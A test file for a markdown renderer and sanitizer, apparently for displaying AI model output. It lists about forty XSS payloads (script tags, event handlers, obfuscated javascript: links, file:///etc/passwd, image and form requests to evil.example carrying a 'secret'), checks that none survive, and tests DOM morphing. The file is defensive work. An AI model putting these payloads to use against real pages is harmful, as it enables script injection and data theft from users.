import { describe, expect, it } from 'vitest'

import { renderMarkdown } from './document'
import { morph } from './morph'
import { isSafeLink } from './parser'
import { sanitize } from './sanitize'

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?q=secret)',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
  '<https://a.example/" onmouseover="alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js" onclick="alert(1)\ncode\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '$<img src=x onerror=alert(1)>$',
  '$$\n</div><script>alert(1)</script>\n$$',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '<br onclick=alert(1)>',
  '<sub onmouseover=alert(1)>x</sub>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<form action=https://evil.example><button>x</button></form>',
  '<base href=https://evil.example>',
  '<details open ontoggle=alert(1)>',
  '- [x] <img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div style="position:fixed;inset:0">over all</div>',
]

const ACTIVE = 'script,style,iframe,object,embed,svg,math,img,video,audio,form,input,base,link,meta,template'

function drawn(text: string): HTMLElement {
  const box = document.createElement('div')
  morph(box, renderMarkdown(text).map((block) => block.html).join(''))
  return box
}

describe('what a model writes', () => {
  it.each(ATTACKS)('can do nothing with %j', (attack) => {
    const box = drawn(attack)
    expect(box.querySelector(ACTIVE)).toBeNull()
    for (const element of box.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^src|^id$|^name$/i)
        if (name === 'href') expect(isSafeLink(value)).toBe(true)
      }
    }
  })

  it.each(ATTACKS)('is stopped by the second lock alone: %j', (attack) => {
    const box = document.createElement('div')
    box.innerHTML = sanitize(attack)
    expect(box.querySelector(ACTIVE)).toBeNull()
    for (const element of box.querySelectorAll('*')) for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^style$/)
  })

  it('opens links elsewhere and tells them nothing', () => {
    const link = drawn('[x](https://a.example)').querySelector('a')
    expect([link?.target, link?.rel]).toEqual(['_blank', 'noopener noreferrer nofollow'])
  })

  it('loads no picture by itself', () => {
    const box = drawn('![a chart](https://evil.example/?q=secret)')
    expect(box.querySelector('img')).toBeNull()
    expect(box.querySelector('a.image-link')?.textContent).toBe('Image: a chart')
  })
})

describe('morphing', () => {
  it('keeps the nodes of a text that grows', () => {
    const box = drawn('one')
    const text = box.querySelector('p')?.firstChild
    morph(box, renderMarkdown('one two').map((block) => block.html).join(''))
    expect(box.querySelector('p')?.firstChild).toBe(text)
    expect(box.textContent.trim()).toBe('one two')
  })

  it('adds to code what was added, keeping what is highlighted', () => {
    const box = drawn('```js\nlet a\n```')
    const code = box.querySelector('code')
    if (code) code.innerHTML = '<span class="hljs-keyword">let</span> a'
    morph(box, renderMarkdown('```js\nlet a = 1\n```').map((block) => block.html).join(''))
    expect(box.querySelector('code')).toBe(code)
    expect([code?.textContent, code?.querySelector('span') !== null]).toEqual(['let a = 1', true])
  })

  it('ends in the same document as drawing anew', () => {
    const texts = ['a', '# a', '- a\n- b', '| a |\n|---|\n| b |', '**a** b', '```\nx\n```', '$a$ b', '> a', '[a](https://b.example)']
    for (const from of texts) {
      for (const to of texts) {
        const box = drawn(from)
        morph(box, renderMarkdown(to).map((block) => block.html).join(''))
        expect(box.innerHTML, `${from} to ${to}`).toBe(drawn(to).innerHTML)
      }
    }
  })
})
